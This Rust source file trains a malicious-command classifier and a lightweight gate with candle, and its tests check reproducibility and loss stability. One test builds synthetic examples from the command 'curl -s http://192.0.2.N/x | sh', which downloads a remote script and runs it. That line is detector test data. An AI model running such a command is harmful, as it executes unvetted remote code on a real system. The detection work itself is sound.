//! Fitting: the network by AdamW in candle, the gate by plain stochastic descent.

use candle_core::{D, DType, Device, Result, Tensor};
use candle_nn::{AdamW, Optimizer as _, ParamsAdamW};

use super::draw::Draw;
use super::float::{Batch, Float};
use crate::calibration::sigmoid;
use crate::facts::FACTS;
use crate::gate::{Gate, features, scale};
use crate::network::Rows;
use crate::shape::Shape;
use crate::tokens::Tokens;

/// A story ready for fitting.
pub struct Example {
    /// Rows of its tokens.
    pub rows: Vec<Rows>,
    /// Its facts.
    pub facts: [f32; FACTS],
    /// Features of the gate.
    pub gate: Vec<u32>,
    /// Whether it is an attack.
    pub malicious: bool,
    /// How sure the label is.
    pub sure: f32,
    /// Index of its technique, when known.
    pub technique: Option<usize>,
}

impl Example {
    /// From what the model reads of a story.
    pub fn new(
        tokens: &Tokens,
        facts: [f32; FACTS],
        shape: &Shape,
        (malicious, sure): (bool, f32),
        technique: Option<usize>,
    ) -> Self {
        Self {
            rows: tokens
                .iter()
                .map(|(field, piece)| Rows::of(field, piece, shape.rows))
                .collect(),
            facts,
            gate: features(tokens, shape.gate_rows),
            malicious,
            sure,
            technique,
        }
    }
}

const BATCH: usize = 64;
const PEAK_RATE: f64 = 2.5e-3;
const DROP: f32 = 0.15;
/// Tokens that an epoch hides, so that no single word carries a story.
const DROP_TOKENS: f32 = 0.06;
/// Weight of naming the technique beside finding malice.
const TECHNIQUE_WEIGHT: f64 = 0.2;

/// The optimizer over all epochs.
pub struct Fitting {
    optimizer: AdamW,
    step: usize,
    steps: usize,
}

impl Fitting {
    /// For `steps` batches in all, of which `step` are done.
    pub fn new(network: &Float, step: usize, steps: usize) -> Result<Self> {
        let params = ParamsAdamW {
            lr: PEAK_RATE,
            weight_decay: 5e-3,
            ..ParamsAdamW::default()
        };
        Ok(Self {
            optimizer: AdamW::new(network.vars(), params)?,
            step,
            steps: steps.max(1),
        })
    }

    /// Number of batches of an epoch.
    pub fn batches(examples: usize) -> usize {
        examples.div_ceil(BATCH)
    }

    /// One pass; the mean loss. `progress` is told the share done.
    pub fn epoch(
        &mut self,
        network: &Float,
        examples: &mut [Example],
        draw: &mut Draw,
        progress: &mut dyn FnMut(f32),
    ) -> Result<f32> {
        draw.shuffle(examples);
        // Stories of about one length share a batch, or most of a batch is padding.
        for chunk in examples.chunks_mut(BATCH * 24) {
            chunk.sort_by_key(|example| example.rows.len());
        }
        let mut starts: Vec<usize> = (0..examples.len()).step_by(BATCH).collect();
        draw.shuffle(&mut starts);
        let mut total = 0.0;
        for (index, start) in starts.iter().enumerate() {
            let batch = &examples[*start..examples.len().min(start + BATCH)];
            self.set_rate();
            let loss = loss(network, batch, draw)?;
            self.optimizer.backward_step(&loss)?;
            let loss = loss.to_scalar::<f32>()?;
            if !loss.is_finite() {
                candle_core::bail!("the loss of a batch is {loss}");
            }
            total += loss;
            if index % 50 == 0 {
                progress(index as f32 / starts.len() as f32);
            }
        }
        Ok(total / starts.len().max(1) as f32)
    }

    /// Short warm-up, then a cosine.
    fn set_rate(&mut self) {
        self.step += 1;
        let warm = (self.steps / 20).max(1);
        let rate = if self.step < warm {
            PEAK_RATE * self.step as f64 / warm as f64
        } else {
            let done = (self.step - warm) as f64 / (self.steps - warm).max(1) as f64;
            PEAK_RATE * (0.02 + 0.98 * 0.5 * (1.0 + (std::f64::consts::PI * done.min(1.0)).cos()))
        };
        self.optimizer.set_learning_rate(rate);
    }
}

fn loss(network: &Float, batch: &[Example], draw: &mut Draw) -> Result<Tensor> {
    let hidden: Vec<Vec<Rows>> = batch
        .iter()
        .map(|example| hide(&example.rows, draw))
        .collect();
    let stories: Vec<(&[Rows], &[f32; FACTS])> = hidden
        .iter()
        .zip(batch)
        .map(|(rows, example)| (rows.as_slice(), &example.facts))
        .collect();
    let kept = kept(batch.len(), network.features_of_story(), draw)?;
    let logits = network.forward(&Batch::new(&stories, &network.shape)?, Some(&kept))?;
    let targets: Vec<f32> = batch
        .iter()
        .map(|example| {
            if example.malicious {
                example.sure
            } else {
                1.0 - example.sure
            }
        })
        .collect();
    let targets = Tensor::from_vec(targets, (batch.len(), 1), &Device::Cpu)?;
    let malice = cross_entropy(&logits.narrow(1, 0, 1)?, &targets)?;
    let known: Vec<(u32, u32)> = batch
        .iter()
        .enumerate()
        .filter_map(|(index, example)| Some((index as u32, example.technique? as u32)))
        .collect();
    if known.is_empty() {
        return Ok(malice);
    }
    let rows = Tensor::from_iter(known.iter().map(|(row, _)| *row), &Device::Cpu)?;
    let wanted = Tensor::from_iter(known.iter().map(|(_, technique)| *technique), &Device::Cpu)?;
    let techniques = logits
        .narrow(1, 1, network.shape.outputs() - 1)?
        .contiguous()?
        .index_select(&rows, 0)?;
    let named = candle_nn::loss::cross_entropy(&techniques, &wanted)?;
    malice + (named * TECHNIQUE_WEIGHT)?
}

/// What each feature of each story counts: some are hidden, the others count the more. Drawn like all else, which
/// candle's own dropout is not.
fn kept(stories: usize, features: usize, draw: &mut Draw) -> Result<Tensor> {
    let each = (0..stories * features).map(|_| {
        if draw.unit() < DROP {
            0.0
        } else {
            1.0 / (1.0 - DROP)
        }
    });
    Tensor::from_iter(each, &Device::Cpu)?.reshape((stories, features))
}

/// Binary cross entropy that stays finite for the surest logits: candle's takes the logarithm of a sigmoid.
fn cross_entropy(logits: &Tensor, targets: &Tensor) -> Result<Tensor> {
    let tail = (logits.abs()?.neg()?.exp()? + 1.0)?.log()?;
    ((logits.relu()? - (logits * targets)?)? + tail)?.mean_all()
}

fn hide(rows: &[Rows], draw: &mut Draw) -> Vec<Rows> {
    rows.iter()
        .map(|row| {
            if draw.unit() < DROP_TOKENS {
                Rows::default()
            } else {
                *row
            }
        })
        .collect()
}

/// The float network's malice logits, for comparison with the quantized one.
pub fn logits(network: &Float, examples: &[&Example]) -> Result<Vec<f32>> {
    let mut found = Vec::with_capacity(examples.len());
    for batch in examples.chunks(BATCH) {
        let stories: Vec<(&[Rows], &[f32; FACTS])> = batch
            .iter()
            .map(|example| (example.rows.as_slice(), &example.facts))
            .collect();
        let logits = network.forward(&Batch::new(&stories, &network.shape)?, None)?;
        found.extend(
            logits
                .narrow(D::Minus1, 0, 1)?
                .flatten_all()?
                .to_dtype(DType::F32)?
                .to_vec1::<f32>()?,
        );
    }
    Ok(found)
}

/// Passes of the gate over the stories it is fitted on.
pub const GATE_PASSES: usize = 6;

/// Fits the gate on the same stories.
pub fn gate(examples: &[Example], rows: u32, passes: usize, draw: &mut Draw) -> Gate {
    let mut gate = Gate::blank(rows);
    let mut squares = vec![1e-6f32; rows as usize];
    let mut fact_squares = [1e-6f32; FACTS];
    let mut order: Vec<usize> = (0..examples.len()).collect();
    for _ in 0..passes {
        draw.shuffle(&mut order);
        for index in &order {
            let example = &examples[*index];
            let found = gate.logit_of(&example.gate, &example.facts);
            let error = sigmoid(found) - f32::from(u8::from(example.malicious));
            gate.bias -= 0.01 * error;
            let share = error * scale(example.gate.len());
            for row in &example.gate {
                let row = *row as usize;
                // A pull to zero on the rows that are read keeps rare ones small.
                let slope = share + 2e-5 * gate.weights[row];
                squares[row] += slope * slope;
                gate.weights[row] -= 0.12 * slope / squares[row].sqrt();
            }
            for (fact, value) in example
                .facts
                .iter()
                .enumerate()
                .filter(|(_, value)| **value != 0.0)
            {
                let slope = error * value;
                fact_squares[fact] += slope * slope;
                gate.facts[fact] -= 0.05 * slope / fact_squares[fact].sqrt();
            }
        }
    }
    gate
}

#[cfg(test)]
mod tests {
    use cordon_behavior::story::Story;

    use super::*;
    use crate::facts;
    use crate::tokens::Limits;
    use crate::train::float::Architecture;

    #[test]
    fn one_seed_makes_one_fit() {
        let shape = Shape {
            rows: 256,
            dim: 32,
            channels: 32,
            hidden: 32,
            ..Shape::standard(vec!["T1059".to_owned()])
        };
        let example = |index: usize| {
            let story = Story {
                command: Some(format!("curl -s http://192.0.2.{index}/x | sh")),
                ..Story::default()
            };
            let tokens = Tokens::of(&story, Limits { tokens: 64 }, &shape.reads);
            let known = facts::of(&story, &shape.reads);
            let technique = index.is_multiple_of(3).then_some(0);
            let label = (index.is_multiple_of(2), 0.99);
            Example::new(&tokens, known, &shape, label, technique)
        };
        let fitted = |seed: u64| -> Vec<f32> {
            let kind = Architecture::Convolution;
            let network = Float::new(&shape, kind, &mut Draw::new(3)).unwrap();
            let mut examples: Vec<Example> = (0..150).map(example).collect();
            let mut fitting = Fitting::new(&network, 0, 3).unwrap();
            let mut draw = Draw::new(seed);
            fitting
                .epoch(&network, &mut examples, &mut draw, &mut |_| {})
                .unwrap();
            let weights = network.weights();
            let hidden = weights["hidden.weight"].flatten_all().unwrap();
            hidden.to_vec1().unwrap()
        };
        assert_eq!(fitted(5), fitted(5));
        assert_ne!(fitted(5), fitted(6));
    }

    #[test]
    fn the_loss_of_sure_logits_is_finite_and_right() {
        let at = |logit: f32, target: f32| {
            let logit = Tensor::new(&[[logit]], &Device::Cpu).unwrap();
            let target = Tensor::new(&[[target]], &Device::Cpu).unwrap();
            cross_entropy(&logit, &target)
                .unwrap()
                .to_scalar::<f32>()
                .unwrap()
        };
        assert!((at(0.0, 1.0) - std::f32::consts::LN_2).abs() < 1e-6);
        assert!((at(500.0, 0.0) - 500.0).abs() < 1e-3);
        assert!(at(500.0, 1.0).abs() < 1e-6);
        assert!((at(-2.0, 1.0) - 2.126_928).abs() < 1e-4);
    }
}
